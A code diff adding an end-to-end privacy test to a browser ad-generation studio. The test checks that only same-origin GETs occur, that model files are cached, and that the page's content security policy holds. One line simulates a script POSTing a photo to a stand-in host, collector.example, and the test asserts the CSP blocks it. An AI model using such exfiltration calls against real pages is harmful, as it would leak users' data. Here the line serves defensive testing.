@@ -947,6 +947,54 @@ test('progress: step previews of the ad appear on the canvas before it is done',
   }
 });
 
+test('privacy: only GETs of the app\'s own files, never a body, the model not fetched again, and the page runs under its CSP', { timeout: 2 * LOAD_TIMEOUT + GENERATE_TIMEOUT + MINUTE }, async () => {
+  // A server of its own whose log is every request it answered.
+  const own = await startServer(DIST, 0, { verbose: true });
+  const b = await launch(WEBGPU_ON);
+  try {
+    const { page } = b;
+    const seen = [];
+    b.context.on('request', (r) => seen.push({ url: r.url(), method: r.method(), body: r.postDataBuffer()?.length ?? 0 }));
+    await page.addInitScript(() => {
+      window.__violations = [];
+      addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
+    });
+    const response = await page.goto(own.url, { waitUntil: 'load' });
+    assert.match(response.headers()['content-security-policy'] || '', /connect-src 'self'/, 'the page is sent with its CSP');
+    await waitForState(page, ['ready'], LOAD_TIMEOUT, 'loading the page');
+    await setUpSmallAd(page, 2, 'on a marble counter');
+    await page.click('#generate');
+    const done = await waitForAd(page);
+    assert.equal(done.state, 'done', done.text);
+    await Promise.all([page.waitForEvent('download'), page.click('#download')]);
+
+    const origin = new URL(own.url).origin;
+    const foreign = seen.filter((r) => !r.url.startsWith(`${origin}/`) && !/^(blob|data):/.test(r.url));
+    assert.deepEqual(foreign, [], 'no request leaves the studio\'s own origin');
+    assert.deepEqual(seen.filter((r) => r.method !== 'GET' || r.body > 0), [], 'only GETs, never a body');
+    const logged = own.requests.slice();
+    assert.ok(logged.length > 5 && logged.every((l) => /"GET \/(|index\.html|sw\.js|www\/[\w.-]+|pkg\/[\w./-]+|models\/default\/[\w.-]+)(\?[^ ]*)? HTTP/.test(l)),
+      `the server answered only the app's own files:\n${logged.join('\n')}`);
+
+    // A second visit: the model comes from the cache, the server is never asked for it.
+    own.requests.length = 0;
+    await page.reload({ waitUntil: 'load' });
+    await waitForState(page, ['ready'], LOAD_TIMEOUT, 'the second visit');
+    assert.deepEqual(own.requests.filter((l) => /\.safetensors|tokenizer\.json|adcanvas_bg\.wasm /.test(l)), [],
+      'no model file or wasm module is downloaded again');
+    assert.deepEqual(await page.evaluate(() => window.__violations), [], 'nothing the studio does is refused by its CSP');
+    // And the policy holds: a script on the page that tried to send the photo elsewhere is stopped.
+    const sent = await page.evaluate(() => fetch('https://collector.example/upload', { method: 'POST', body: 'photo' })
+      .then(() => 'sent', () => 'blocked'));
+    assert.equal(sent, 'blocked');
+    assert.ok((await page.evaluate(() => window.__violations)).some((v) => v.startsWith('connect-src')), 'refused by connect-src');
+    assert.deepEqual(b.pageErrors.map(String), [], 'no uncaught page errors');
+  } finally {
+    await b.close();
+    own.proc.kill();
+  }
+});
+
 test('corrupt upload shows an error and the page stays usable', { timeout: LOAD_TIMEOUT + 2 * MINUTE }, async () => {
   const b = await launch(WEBGPU_ON);
   try {
